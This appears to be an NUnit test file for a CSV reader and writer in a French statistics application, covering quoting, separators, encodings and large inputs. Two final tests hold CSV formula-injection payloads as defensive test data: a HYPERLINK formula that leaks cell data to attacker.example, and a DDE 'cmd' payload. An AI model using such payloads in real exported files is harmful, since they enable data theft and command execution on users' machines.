using System.Diagnostics;
using System.Globalization;
using System.Text;
using Observatoires.Api.Platform.Export;

namespace Observatoires.Tests.Platform.Export;

public sealed class CsvReaderTests
{
    [Test]
    public void Reads_a_simple_file()
    {
        using var csv = Open("code,label,value\n62001,Ablain-Saint-Nazaire,12.5\n62002,Ablainzevelle,\n");
        Assert.That(csv.Header, Is.EqualTo(new[] { "code", "label", "value" }));
        Assert.That(csv.Separator, Is.EqualTo(','));
        Assert.That(ReadAll(csv), Is.EqualTo(new[]
        {
            (2L, new[] { "62001", "Ablain-Saint-Nazaire", "12.5" }),
            (3L, new[] { "62002", "Ablainzevelle", "" }),
        }));
        Assert.That(csv.TryRead(out _), Is.False);
    }

    [Test]
    public void Trims_the_header_names_but_not_the_values()
    {
        using var csv = Open(" code , label\n 62001 , Arras ");
        Assert.That(csv.Header, Is.EqualTo(new[] { "code", "label" }));
        Assert.That(ReadAll(csv).Single().Fields, Is.EqualTo(new[] { " 62001 ", " Arras " }));
    }

    [Test]
    public void Skips_a_byte_order_mark()
    {
        var bytes = Encoding.UTF8.GetPreamble().Concat(Encoding.UTF8.GetBytes("code,libellé\n62041,Arras\n")).ToArray();
        using var csv = new CsvReader(new MemoryStream(bytes));
        Assert.That(csv.Header, Is.EqualTo(new[] { "code", "libellé" }));
        Assert.That(ReadAll(csv).Single().Fields, Is.EqualTo(new[] { "62041", "Arras" }));
    }

    [Test]
    public void Reads_CRLF_and_CR_line_ends_and_a_missing_final_one()
    {
        using var csv = Open("a,b\r\n1,2\r\n3,4\r5,6");
        Assert.That(ReadAll(csv), Is.EqualTo(new[]
        {
            (2L, new[] { "1", "2" }),
            (3L, new[] { "3", "4" }),
            (4L, new[] { "5", "6" }),
        }));
    }

    [Test]
    public void Quoted_fields_hold_separators_quotes_and_line_breaks()
    {
        const string text = "code,label,note\n" +
            "1,\"Lens, centre\",\"the \"\"Louvre\"\" annex\"\n" +
            "2,\"two\nlines\",plain\n" +
            "3,\"three\r\nCRLF\r\nlines\",\"\"\n" +
            "4,\"\"\"\",\",\"\n";
        using var csv = Open(text);
        Assert.That(ReadAll(csv), Is.EqualTo(new[]
        {
            (2L, new[] { "1", "Lens, centre", "the \"Louvre\" annex" }),
            (3L, new[] { "2", "two\nlines", "plain" }),
            (5L, new[] { "3", "three\r\nCRLF\r\nlines", "" }),
            (8L, new[] { "4", "\"", "," }),
        }));
    }

    [Test]
    public void Empty_lines_are_skipped_but_counted()
    {
        using var csv = Open("\n\r\na,b\n\n1,2\r\n\r\n\n3,4\n\n");
        Assert.That(ReadAll(csv), Is.EqualTo(new[]
        {
            (5L, new[] { "1", "2" }),
            (8L, new[] { "3", "4" }),
        }));
    }

    [Test]
    public void Detects_semicolons_in_a_French_Excel_export()
    {
        using var csv = Open("code;libellé;taux\n62041;Arras;12,5\n62498;\"Lens; centre\";7\n");
        Assert.That(csv.Separator, Is.EqualTo(';'));
        Assert.That(csv.Header, Is.EqualTo(new[] { "code", "libellé", "taux" }));
        Assert.That(ReadAll(csv).Select(r => r.Fields), Is.EqualTo(new[]
        {
            new[] { "62041", "Arras", "12,5" },
            new[] { "62498", "Lens; centre", "7" },
        }));
    }

    [TestCase("a,b;c\n1,2;3", ',')]
    [TestCase("abc\n1", ',')]
    [TestCase("a;b", ';')]
    public void Commas_win_unless_the_header_has_only_semicolons(string text, char separator)
    {
        using var csv = Open(text);
        Assert.That(csv.Separator, Is.EqualTo(separator));
    }

    [Test]
    public void Records_keep_their_own_number_of_fields()
    {
        using var csv = Open("a,b,c\n1,2\n1,2,3,4\n");
        Assert.That(ReadAll(csv).Select(r => r.Fields.Length), Is.EqualTo(new[] { 2, 4 }));
    }

    [TestCase("")]
    [TestCase("\n\r\n\n")]
    [TestCase("\uFEFF")]
    public void An_empty_file_is_refused(string text)
    {
        var error = Assert.Throws<InvalidDataException>(() => Open(text));
        Assert.That(error.Message, Is.EqualTo("the file is empty"));
    }

    [TestCase("a,b\n1,2\n3,\"open\n4,5\n", "line 3: a quoted field is never closed")]
    [TestCase("a,b\n1,2\n3,\"open", "line 3: a quoted field is never closed")]
    [TestCase("a,b\n1,2\n3,12\"5\n", "line 3: a quote inside an unquoted field")]
    [TestCase("a,b\n\"x\ny\",1\n3, \"5\"\n", "line 4: a quote inside an unquoted field")]
    [TestCase("a,b\n1,2\n\"3\"x,4\n", "line 3: characters after the closing quote of a field")]
    [TestCase("a,b\n\"1\n\n\"\"2\"\"\" ,3\n", "line 4: characters after the closing quote of a field")]
    [TestCase("a,\"b\nc\n", "line 1: a quoted field is never closed")]
    public void Malformed_quoting_names_its_line(string text, string message)
    {
        var error = Assert.Throws<InvalidDataException>(() =>
        {
            using var csv = Open(text);
            while (csv.TryRead(out _))
            {
            }
        });
        Assert.That(error.Message, Does.StartWith(message));
    }

    [Test]
    public void A_file_that_is_not_UTF8_is_refused()
    {
        var latin1 = Encoding.Latin1.GetBytes("code,libellé\n62041,Béthune\n");
        var error = Assert.Throws<InvalidDataException>(() => new CsvReader(new MemoryStream(latin1)));
        Assert.That(error.Message, Does.Contain("not UTF-8"));
    }

    [Test]
    public void Records_cut_by_the_end_of_the_buffer_are_read_whole()
    {
        // Odd-sized records with quotes, doubled quotes and CR LF pairs fall across every buffer boundary of a large file.
        var text = new StringBuilder("id,text,tail\r\n");
        var expected = new List<(long, string[])>();
        var line = 2L;
        for (var i = 0; i < 20_000; i++)
        {
            var value = $"{new string('x', i % 37)} \"{i}\"\r\nnext, line";
            text.Append(CultureInfo.InvariantCulture, $"{i},\"{value.Replace("\"", "\"\"", StringComparison.Ordinal)}\",{i % 7}\r\n");
            expected.Add((line, [i.ToString(CultureInfo.InvariantCulture), value, (i % 7).ToString(CultureInfo.InvariantCulture)]));
            line += 2;
        }
        using var csv = Open(text.ToString());
        Assert.That(ReadAll(csv), Is.EqualTo(expected));
    }

    [Test]
    public void A_field_larger_than_the_buffer_is_read_whole()
    {
        var large = new string('é', 300_000) + "\n" + new string('z', 100_000);
        using var csv = Open($"a,b\n1,\"{large}\"\n2,end\n");
        Assert.That(ReadAll(csv), Is.EqualTo(new[] { (2L, new[] { "1", large }), (4L, new[] { "2", "end" }) }));
    }

    [Test]
    public void A_quote_never_closed_in_a_large_file_stops_at_the_record_size_limit()
    {
        var text = new StringBuilder("a,b\n1,2\n3,\"oops\n");
        while (text.Length <= CsvReader.MaxRecordLength + 1000)
            text.Append("62041,Arras\n");
        var error = Assert.Throws<InvalidDataException>(() =>
        {
            using var csv = Open(text.ToString());
            while (csv.TryRead(out _))
            {
            }
        });
        Assert.That(error.Message, Does.StartWith("line 3: a record longer than"));
    }

    [Test]
    public void Reads_a_million_rows()
    {
        const int rows = 1_000_000;
        var text = new StringBuilder("territory,period,value,numerator,denominator,status\n", rows * 40);
        for (var i = 0; i < rows; i++)
            text.Append(CultureInfo.InvariantCulture, $"62{i % 1000:D3},{2000 + (i % 24)},{i % 977}.5,{i % 89},{i % 1013},ok\n");
        var bytes = Encoding.UTF8.GetBytes(text.ToString());

        var clock = Stopwatch.StartNew();
        using var csv = new CsvReader(new MemoryStream(bytes));
        var count = 0;
        var fields = 0L;
        while (csv.TryRead(out var record))
        {
            count++;
            fields += record.Fields.Count;
        }
        clock.Stop();

        Assert.That(count, Is.EqualTo(rows));
        Assert.That(fields, Is.EqualTo(rows * 6L));
        TestContext.Out.WriteLine(
            $"{rows:N0} rows ({bytes.Length / 1e6:F1} MB) in {clock.ElapsedMilliseconds} ms: {rows / clock.Elapsed.TotalSeconds:N0} rows/s");
    }

    [Test]
    public async Task Reads_back_what_CsvWriter_writes()
    {
        object?[][] rows =
        [
            ["plain", "", null, 12.5, -3],
            ["a,b", "say \"hi\"", "\"", ",", "\"\""],
            ["two\nlines", "crlf\r\nline", "cr\r", "\n", "  spaced  "],
            ["Hénin-Beaumont", "Œuvre ; « citée »", "日本", "tab\there", "end"],
        ];
        var stream = new MemoryStream();
        await using (var writer = new CsvWriter(stream))
        {
            await writer.WriteRowAsync("a", "b", "c", "d", "e");
            foreach (var row in rows)
                await writer.WriteRowAsync(row);
        }

        using var csv = new CsvReader(new MemoryStream(stream.ToArray()));
        var expected = rows.Select(row => row.Select(v => v is IFormattable f ? f.ToString(null, CultureInfo.InvariantCulture) : v as string ?? ""));
        Assert.That(ReadAll(csv).Select(r => r.Fields), Is.EqualTo(expected));
        Assert.That(ReadAll(csv), Is.Empty);
    }

    [Test]
    public async Task Text_a_spreadsheet_would_run_as_a_formula_is_written_as_text_and_numbers_stay_numbers()
    {
        var stream = new MemoryStream();
        await using (var writer = new CsvWriter(stream))
        {
            await writer.WriteRowAsync("a", "b", "c", "d", "e", "f", "g");
            await writer.WriteRowAsync("=HYPERLINK(\"https://attacker.example/?d=\"&B2,\"x\")", "+33 1", "-", "@SUM(A1)", -3, 12.5, "Béthune");
        }

        using var csv = new CsvReader(new MemoryStream(stream.ToArray()));
        Assert.That(ReadAll(csv).Single().Fields, Is.EqualTo(new[]
        {
            "'=HYPERLINK(\"https://attacker.example/?d=\"&B2,\"x\")", "'+33 1", "'-", "'@SUM(A1)", "-3", "12.5", "Béthune",
        }));
    }

    [Test]
    public async Task A_formula_after_a_semicolon_stays_text_where_a_French_spreadsheet_splits_the_line_on_semicolons()
    {
        var stream = new MemoryStream();
        await using (var writer = new CsvWriter(stream))
            await writer.WriteRowAsync("Fleury;=1+1;-2+3+cmd|' /C calc'!A0", "Lens; Liévin", "a;b");

        var line = Encoding.UTF8.GetString(stream.ToArray()).TrimEnd('\n');
        Assert.That(line, Is.EqualTo("Fleury;'=1+1;'-2+3+cmd|' /C calc'!A0,Lens; Liévin,a;b"));
        Assert.That(line.Split(';', ','), Has.None.Match("^[=+\\-@]"), "no cell, split either way, starts a formula");
    }

    private static CsvReader Open(string text) => new(new StringReader(text));

    private static List<(long Line, string[] Fields)> ReadAll(CsvReader csv)
    {
        var records = new List<(long, string[])>();
        while (csv.TryRead(out var record))
            records.Add((record.Line, [.. record.Fields]));
        return records;
    }
}
